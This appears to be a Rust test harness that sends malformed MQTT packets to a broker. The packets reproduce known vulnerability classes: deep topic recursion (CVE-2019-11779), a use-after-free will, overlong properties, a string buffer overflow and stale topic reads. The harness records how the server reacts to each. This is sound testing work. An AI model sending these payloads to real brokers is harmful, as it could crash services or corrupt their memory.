//! Classes of published vulnerabilities, made again by edits.

use anyhow::{Context, Result, bail, ensure};

use super::client::{
    CONNACK, Client, DISCONNECT, Hello, Message, PINGREQ, PINGRESP, PUBLISH, Received, SUBACK,
    counted, message, packet, publish, subscribe,
};
use super::worker::Worker;
use crate::guest::errors;

/// Levels of the deep topic: fewer than the packet has room for, more than the stack.
const LEVELS: usize = 6000;

/// How a bug is attacked: what to send after the connection's first packet, and that packet.
struct Attack {
    class: &'static str,
    name: &'static str,
    will: bool,
    bytes: fn(u64) -> Vec<u8>,
}

fn deep() -> String {
    "a/".repeat(LEVELS)
}

/// A message with a property of text whose length is told to be another one.
fn long_property(kind: u8, length: u16) -> Vec<u8> {
    let mut body = counted(b"bug/property");
    let mut property = vec![kind];
    property.extend_from_slice(&length.to_be_bytes());
    property.extend_from_slice(b"text");
    body.push(property.len() as u8);
    body.extend(property);
    packet(PUBLISH, &body)
}

const ATTACKS: [Attack; 4] = [
    Attack {
        class: "deep recursion in a topic (CVE-2019-11779)",
        name: "bug-deep",
        will: false,
        bytes: |_| {
            let mut bytes = subscribe(&deep());
            bytes.extend(publish(&deep(), b"deep", false, false));
            bytes
        },
    },
    Attack {
        class: "a will that is used after it was freed",
        name: "bug-will",
        will: true,
        bytes: |_| packet(DISCONNECT, &[]),
    },
    Attack {
        class: "a property that is longer than its packet",
        name: "bug-property",
        will: false,
        // Content type, response topic, correlation data.
        bytes: |turn| {
            long_property(
                [0x03, 0x08, 0x09][turn as usize % 3],
                60_000 - (turn as u16 % 50) * 1000,
            )
        },
    },
    Attack {
        class: "a string that is copied to a block that is too short",
        name: "bug-string",
        will: false,
        bytes: |turn| {
            subscribe(&format!(
                "bug-string/{}",
                "x".repeat(40 + turn as usize % 50)
            ))
        },
    },
];

/// Attacks bugs that are made again by edits, while others work.
pub(super) fn attack(each: u64) -> Result<()> {
    for attack in &ATTACKS {
        errors::attack::<Worker>(attack.class, each, &mut |turn, sum| {
            let hello = Hello {
                // Each its own.
                name: &format!("{}-{turn}", attack.name),
                fresh: true,
                will: attack
                    .will
                    .then_some(("bug/will", b"the attacker's".as_slice())),
            };
            let (mut attacker, _) = Client::connect(&hello)?;
            let mut bytes = (attack.bytes)(turn);
            bytes.extend(packet(PINGREQ, &[]));
            attacker.send(&bytes)?;
            let mut failed = false;
            loop {
                let what = match attacker.receive()? {
                    // The server's "unspecified error".
                    Received::Packet(DISCONNECT, body) => {
                        failed = body.first() == Some(&0x80);
                        format!("ended with {body:02x?}")
                    }
                    Received::Packet(PINGRESP, _) => "no effect".to_owned(),
                    Received::Packet(first, _) if first != CONNACK => continue,
                    other => format!("{other:?}"),
                };
                *sum.kinds.entry(what).or_default() += 1;
                break;
            }
            if attack.will {
                // Its session is damaged, and is given up when it could not be taken over twice.
                let attempt = (1..=3).find(|_| Client::connect(&hello).is_ok());
                let attempt = attempt.context("the attacker's name is locked out")?;
                let what = format!("connects again at attempt {attempt}");
                *sum.kinds.entry(what).or_default() += 1;
            }
            Ok(failed)
        })?;
    }
    errors::attack::<Worker>(
        "a topic that is read where nothing was written",
        each,
        &mut |turn, sum| {
            if let Some(message) = stale(turn)? {
                bail!("another client got {}", message.topic);
            }
            let what = "delivered to nobody".to_owned();
            *sum.kinds.entry(what).or_default() += 1;
            Ok(false)
        },
    )
}

/// A client publishes, and then the attacker, whose topic's levels are not copied: what is where they should be is the earlier
/// topic. Returns what the first client got of it.
fn stale(turn: u64) -> Result<Option<Message>> {
    let connect = |name: &str| {
        let hello = Hello {
            name: &format!("{name}-{turn}"),
            fresh: true,
            will: None,
        };
        Client::connect(&hello)
    };
    let (mut other, _) = connect("bug-other")?;
    let (mut attacker, _) = connect("bug-attacker")?;
    other.send(&subscribe("bug-other/#"))?;
    ensure!(matches!(other.receive()?, Received::Packet(SUBACK, _)));
    // No request comes between the two: the first is not acknowledged, and is over when it has come back.
    other.send(&publish("bug-other/topic", b"own", false, false))?;
    ensure!(matches!(other.receive()?, Received::Packet(PUBLISH, _)));
    attacker.send(&publish("bug-stale/topic", b"the attacker's", false, false))?;
    for client in [&mut attacker, &mut other] {
        client.send(&packet(PINGREQ, &[]))?;
        match client.receive()? {
            Received::Packet(PINGRESP, _) => {}
            Received::Packet(first, body) if first & 0xf0 == PUBLISH => {
                return message(first, &body).map(Some);
            }
            other => bail!("{other:?}"),
        }
    }
    Ok(None)
}
